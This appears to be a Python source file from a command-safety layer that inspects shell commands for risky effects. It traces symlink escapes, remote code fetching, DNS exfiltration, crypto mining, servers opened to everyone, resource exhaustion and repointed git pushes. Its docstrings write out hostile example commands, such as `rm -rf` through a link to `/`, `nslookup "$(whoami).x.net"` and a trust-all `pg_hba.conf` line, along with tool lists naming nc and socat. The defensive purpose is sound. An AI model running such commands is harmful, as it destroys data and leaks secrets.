"""Where the shield's facts land: each effect's place (with the links the real filesystem
showed), the paths to ask the filesystem about, the table's rows of what cannot be undone
off the machine, and where a command's output goes (a filter that keeps one name, a pipe
to a sender, a $(…))."""

from __future__ import annotations

import posixpath
import re
from collections.abc import Mapping, Sequence

from toolpipe.layers._shield_builds import foreign_build
from toolpipe.layers._shield_guarded import guarded_edits
from toolpipe.layers._shield_handed import CLIENTS, client_files
from toolpipe.layers._shield_services import own_service_only
from toolpipe.layers._shield_settings import PRODUCTION, opens_server, settings
from toolpipe.shell import (
    CREDENTIAL_HINT,
    DECODERS,
    ENDLESS_SOURCES,
    GREPS,
    IRREVERSIBLE,
    MAX_JOINED,
    NETWORK,
    NETWORK_SOURCES,
    READ_ONLY,
    UNKNOWN,
    Command,
    Effect,
    Place,
    Script,
    classify,
    echoed,
    effects,
    irreversible,
    literal_prefix,
    sends,
    short_flags,
)

OFFSITE = frozenset(IRREVERSIBLE)
_FROM_AFAR = NETWORK_SOURCES | DECODERS  # (programs whose output no one here chose)
_ASKS_FOR_HELP = frozenset({"--help", "--version", "--usage"})
_WINE = frozenset({"wine", "wine64", "proton", "wine-stable"})


def place_of(effect: Effect, workspace: str, escaped: frozenset[str] = frozenset(),
             through: Mapping[str, str] | None = None) -> Place | None:
    """Where an effect lands; ``escaped``: paths of the workspace the filesystem says are
    links out of it; ``through``: links the script made, each to its target."""
    if effect.word is None:
        return None
    if effect.word.sources == ("mktemp",):  # made by mktemp on the same line: scratch
        return Place("scratch", effect.word.shown)
    place = classify(effect.word, effect.command.cwd, workspace)
    if place.kind == "workspace" and not effect.word.tame and effect.word.text.rstrip(
            "/").endswith(UNKNOWN) and _FROM_AFAR.intersection(effect.word.sources):
        # `rm -rf "build/$(curl …)"`: a name a download or a decoder gives may be `../..`
        # (one a known ending follows, `dist/app-$v.tgz`, ends as that: left)
        return Place("outside", f"{place.path} (a name from a download or a decoder, which "
                                f"may climb out of the folder)")
    if not ((through or escaped) and effect.word.known and place.kind in ("workspace",
                                                                         "secret")):
        return place
    k = posixpath.normpath(posixpath.join(effect.command.cwd or ".", effect.word.text))
    for link, target in (through or {}).items():
        if k == link and effect.kind == "delete" and not effect.word.text.endswith("/"):
            break  # `rm -rf link` removes the link itself
        if k == link or k.startswith(link + "/"):
            rest = k[len(link):]
            real = classify(target.rstrip("/") + rest if rest else target,
                            effect.command.cwd, workspace)
            return Place(real.kind, f"{place.path} (a link to {real.path})", real.settings)
    if any(k == e or k.startswith(e.rstrip("/") + "/") for e in escaped):
        return Place("outside", f"{place.path} (a link out of the workspace)")
    return place


def links_made(script: Script, workspace: str) -> dict[str, str]:
    """Links the script itself makes to a place outside the workspace, each to its target
    (``ln -s / rootfs && rm -rf rootfs/``): its later commands go through them."""
    out: dict[str, str] = {}
    for cmd in script.commands:
        operands = [a for a in cmd.args if not a.text.startswith("-")]
        if cmd.name != "ln" or len(operands) != 2 or not all(a.known for a in operands):
            continue
        target, link = operands
        if classify(target, cmd.cwd, workspace).kind not in ("workspace", "secret"):
            out[posixpath.normpath(posixpath.join(cmd.cwd or ".", link.text))] = target.text
    return out


def link_checks(script: Script, workspace: str) -> list[str]:
    """Paths inside the workspace, by their spelling, that a risky effect goes through:
    the real filesystem says whether a link takes one out (a deletion without a trailing
    slash removes the link itself: its folder is what counts)."""
    out: list[str] = []
    for cmd in script.commands:
        for e in effects(cmd):
            if e.kind not in ("delete", "write", "mode", "owner", "send") or e.word is None:
                continue
            text = literal_prefix(e.word)
            if e.kind == "delete" and text == e.word.text and not text.endswith("/"):
                text = posixpath.dirname(text.rstrip("/"))
            if text.startswith(("/", "~", "$", "-")) or cmd.cwd is None:
                continue
            k = posixpath.normpath(posixpath.join(cmd.cwd or ".", text))
            if k not in (".", "") and not k.startswith("../") and k not in out:
                out.append(k)
    return out[:16]


def offsite(cmd: Command, script: Script | None = None) -> list[tuple[float, str]]:
    """The table's ``[[irreversible]]`` rows: publishing, remote deletion, the host given
    away, root granted, services killed. In its ``script``: a row that prints a secret whose
    output goes on to the network is a send (``sent_on``), one whose line sends only to the
    secret's own service is no finding (`curl -H "…$(gh auth token)" https://api.github.com/
    …`: the token used as it is meant to be, not printed: ``own_service_only``)."""
    texts = [a.text for a in cmd.args]
    if _ASKS_FOR_HELP & set(texts) and (texts[-1] in _ASKS_FOR_HELP or "--version" not in texts
                                        or not {"--help", "--usage"}.isdisjoint(texts)):
        return []  # prints its usage and acts on nothing (`yank --version 1.0.0` acts)
    if sum(len(t) + 1 for t in texts) > MAX_JOINED:
        return [(0.6, f"arguments too long to judge ({cmd.located()})")]
    if _WINE & set(cmd.wrappers) or any(w.split()[-1] in _WINE for w in cmd.where
                                          if w.startswith("argument of ")):
        return []  # `wine reg add …`: a Windows tool on wine's own prefix, not the machine
    row = irreversible(cmd.name, texts, cmd.cwd)
    if row is None and cmd.name in _READS_COMMANDS:
        given = fed(cmd)  # `echo 'disable server be/web1' | socat - /run/haproxy.sock`
        if given:
            row = irreversible(cmd.name, [*texts, *given.split()[:256]], cmd.cwd)
    if row is not None and row.secret and script is not None and sent_on(script, cmd):
        return [(0.95, f"sends on what it prints: {row.reason} ({cmd.located()})")]
    if row is not None and row.secret and script is not None and spliced(cmd) and (
            own_service_only(script, cmd.name)):
        return []
    return [(row.score, f"{row.reason} ({cmd.located()})")] if row else []


# Clients whose input is a command language (a database's, a data store's, a server's
# admin socket through socat or nc): what they are fed counts as their arguments do
_READS_COMMANDS = frozenset({
    "psql", "mysql", "mariadb", "sqlite3", "sqlcmd", "clickhouse-client", "cockroach",
    "duckdb", "mongosh", "mongo", "cqlsh", "snowsql", "redis-cli", "keydb-cli", "valkey-cli",
    "socat", "nc", "ncat", "netcat", "telnet"})


def fed(cmd: Command) -> str:
    """What a command is known to read on its input: a here-string or here-document, or
    what the command before it in its pipeline writes (echo, printf, cat <<EOF)."""
    texts = [d.text for d in cmd.stdin_data if d.known] if cmd.redirects else []
    if cmd.upstream:
        printed = echoed(cmd.upstream[-1])
        if printed is not None:
            texts.append(printed)
    return "\n".join(texts)[:MAX_JOINED]


# A build file, script or chart named by its network address, handed to a program that
# runs what it reads (`gradle --init-script https://…/init.gradle`, `ant -f https://…`,
# `helm install x oci://…`): code from the network, as `curl … | sh` is
_REMOTE_CODE = re.compile(
    r"^(?:[\w-]+=)?(?:(?:https?|ftp)://\S+\.(?:gradle|kts|xml|sh|bash|zsh|py|js|mjs|cjs|ts|rb|"
    r"pl|cmake|mk|ps1|bat|php|lua|jar|groovy|tgz|tar\.gz|nix|ipynb|qmd|Rmd)(?:[?#]\S*)?"
    r"|(?:https?|ftp)://"
    r"\S+/(?:Makefile|GNUmakefile|Rakefile|Justfile|Vagrantfile)|oci://\S+)$")
_OPENERS = NETWORK | frozenset({
    "git", "hg", "svn", "xdg-open", "open", "firefox", "chromium", "google-chrome",
    "yt-dlp", "pip", "pip3", "uv", "npm", "pnpm", "yarn", "docker", "podman", "oras",
    "crane", "skopeo", "kubectl", "deno", "bun", "npx", "go", "cargo"})  # (their own rows)


def fetched_code(cmd: Command) -> list[tuple[float, str]]:
    """A program that runs what it reads, given it by its network address."""
    argv = cmd.argv
    if len(argv) < 2 or cmd.name in READ_ONLY or cmd.name in _OPENERS:
        return []
    for a in argv[1:]:
        text = a.text
        if "://" in text and _REMOTE_CODE.match(text.lstrip("-")):
            return [(0.6, f"runs code it fetches from the network: {text} "
                          f"({cmd.located()})")]
    return []


def command_checks(cmd: Command, workspace: str, commands: Sequence[Command]
                   ) -> list[tuple[float, str]]:
    """The checks of one command that need no effect of its own (see each)."""
    return [*settings(cmd), *fetched_code(cmd), *foreign_build(cmd, workspace),
            *endless(cmd, commands), *computed_lookup(cmd), *mining(cmd),
            *server_opened(cmd), *guarded_edits(cmd), *script_into_production(cmd)]


def script_into_production(cmd: Command) -> list[tuple[float, str]]:
    """A database client given a script it cannot read (a file on its input or named by
    an option) against a database, host or URL named for production: a backup restored
    over live data, a migration by hand (`mysql app_production < old_backup.sql`)."""
    if cmd.name not in CLIENTS:
        return []
    texts = [a.text for a in cmd.args]
    fed = any(r.reads and r.target is not None for r in cmd.redirects) or bool(
        client_files(cmd.name, texts))
    if not fed or not any(PRODUCTION.search(t) for t in texts):
        return []
    return [(0.6, f"runs a script it cannot read against production ({cmd.located()})")]


def server_opened(cmd: Command) -> list[tuple[float, str]]:
    """A line printed into a server's settings file that opens the server to everyone
    (`echo "host all all 0.0.0.0/0 trust" >> pg_hba.conf`)."""
    targets = [r.target.text for r in cmd.redirects
               if not r.reads and r.target is not None and r.target.known]
    if not targets:
        return []
    text = echoed(cmd)
    if text is None:
        return []
    opened = next((o for t in targets if (o := opens_server(t, text)) is not None), None)
    return [(0.6, f"opens a server to everyone: {opened} ({cmd.located()})")] if opened else []


_POOL = re.compile(r"(?i)\bstratum\d?\+(?:tcp|ssl|tls|ws|wss)://")


def mining(cmd: Command) -> list[tuple[float, str]]:
    """A mining pool's address (`stratum+tcp://…`) given to any program that does more
    than print it: a miner, whatever its file is called (`./kworker -o stratum+tcp://…`)."""
    if cmd.name in READ_ONLY or not any(_POOL.search(a.text) for a in cmd.args):
        return []
    return [(0.7, f"mines a cryptocurrency: a mining pool's address ({cmd.located()})")]


_LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6",
                      "traceroute", "tracepath", "mtr", "resolvectl", "getent", "avahi-resolve"})


def computed_lookup(cmd: Command) -> list[tuple[float, str]]:
    """A name looked up (DNS, ping) that a command's output builds: whatever the output
    holds leaves in the query, to whoever serves that domain (`nslookup "$(whoami).x.net"`)."""
    if cmd.name not in _LOOKUPS:
        return []
    built = [a for a in cmd.args if a.sources and not a.known and "." in a.text
             and not a.text.endswith((".local", ".localhost", ".lan", ".home.arpa"))]
    return [(0.55, f"sends a command's output in a name it looks up ({cmd.located()})")
            ] if built else []


# the programs (and their options) that read only so much
_LIMITS = {"head": (), "read": (), "dd": ("count=",), "od": ("-N", "--read-bytes"),
           "xxd": ("-l", "-len"), "hexdump": ("-n", "--length"), "pv": ("-S", "--stop-at-size")}
_SINKS = ("/dev/null", "/dev/stdout", "/dev/stderr")


def endless(cmd: Command, commands: Sequence[Command]) -> list[tuple[float, str]]:
    """A command that reads an endless source, or prints without end, with its output
    going nowhere that stops it (not piped into another program, not a file: that is its
    own finding): `cat /dev/urandom > /dev/null &`, `tail -f /dev/zero`, `yes >
    /dev/null`: the machine's CPU or memory, until something kills it. (`tr -dc a-z <
    /dev/urandom | head -c 32` is piped on; `dd … count=1` and `head -c 32` stop.)"""
    texts = [a.text for a in cmd.args]
    reads = any(t.removeprefix("if=") in ENDLESS_SOURCES for t in texts) or any(
        r.reads and r.target is not None and r.target.text in ENDLESS_SOURCES
        for r in cmd.redirects)
    limits = _LIMITS.get(cmd.name)
    if not (reads or cmd.name == "yes") or (limits is not None and (
            not limits or any(t.startswith(limits) for t in texts))):
        return []
    piped = any(c.upstream and c.upstream[-1] is cmd for c in commands)
    written = any(r.writes and r.target is not None and r.target.text not in _SINKS
                  for r in cmd.redirects) or any(
        t.startswith("of=") and t[3:] not in _SINKS for t in texts)
    if piped or written:
        return []
    return [(0.6, f"reads or prints without end: the machine's CPU or memory, until "
                  f"something stops it ({cmd.located()})")]


def picked(after: Sequence[Command]) -> bool:
    """Is an environment printed into a filter that keeps only what a plain pattern names
    (``grep PATH``, ``grep -c X``, ``wc -l``), not a credential?"""
    if not after:
        return False
    first = after[0]
    if first.name == "wc":
        return True
    if first.name not in GREPS:
        return False
    if not all(a.known for a in first.args):
        return False
    texts = [a.text for a in first.args]
    short = short_flags(texts)
    if short & {*"cql"} or {"--count", "--quiet", "--files-with-matches"} & {*texts}:
        return True  # (a count, or nothing)
    if short & _INVERTED or {"--invert-match", "--file"} & {*texts}:
        return False  # (`grep -v PATH`: every other variable; patterns from a file)
    patterns = [t for t in texts if not t.startswith("-")]  # (-e's too)
    return bool(patterns) and all(not CREDENTIAL_HINT.search(p) and all(
        _ONE_NAME.fullmatch(n) for n in re.split(r"\\?\|", p)) for p in patterns)


_INVERTED = frozenset("vf")  # grep's -v (every other line) and -f (patterns from a file)
# a pattern that names one variable, as env, export -p or declare -p prints it (`PATH`,
# `^HOME=`, ` PATH=`, `declare -x LANG`; several: `PATH|HOME`)
_ONE_NAME = re.compile(r"\^?\s?(?:declare -x |export )?[A-Za-z0-9_]+=?\$?")


def sent_on(script: Script, cmd: Command) -> bool:
    """Does this command's output go on, by a pipe, to a command that sends?"""
    return not spliced(cmd) and any(sends(c) for c in script.downstream(cmd))


def spliced(cmd: Command) -> bool:
    """Does this command's output become part of another command's words (``$(…)``)?"""
    return bool(cmd.where) and cmd.where[-1] in ("$(…)", "`…`")


def repointed(script: Script) -> list[tuple[float, str]]:
    """``git remote set-url origin URL && git push``: the repository pushed to a server the
    same command line just named (where a push goes was changed on the way)."""
    named: set[str] = set()
    out: list[tuple[float, str]] = []
    for cmd in script.commands:
        if cmd.name != "git" or not cmd.args or cmd.args[0].text not in ("remote", "push"):
            continue
        words = [a.text for a in cmd.args if not a.text.startswith("-")]
        if words[:2] in (["remote", "set-url"], ["remote", "add"]) and len(words) >= 4:
            named.add(words[2])
        elif words[:1] == ["push"] and named and (words[1] if len(words) > 1 else "origin"
                                                  ) in named:
            out.append((0.6, f"pushes the repository to a server this command named "
                             f"({cmd.located()})"))
    return out


def recursive(cmd: Command) -> bool:
    """Does it read the folders it is given, and everything in them?"""
    texts = {a.text for a in cmd.args}
    short = {c for t in texts if t.startswith("-") and not t.startswith("--") for c in t[1:]}
    if cmd.name in ("rg", "ag", "ack", "tar", "zip", "7z", "rsync"):
        return True
    if cmd.name in ("grep", "egrep", "fgrep", "zgrep"):
        return bool(short & {"r", "R"} or texts & {"--recursive", "--dereference-recursive"})
    if cmd.name in ("cp", "scp"):
        return bool(short & {"r", "R", "a"} or texts & {"--recursive", "--archive"})
    return False
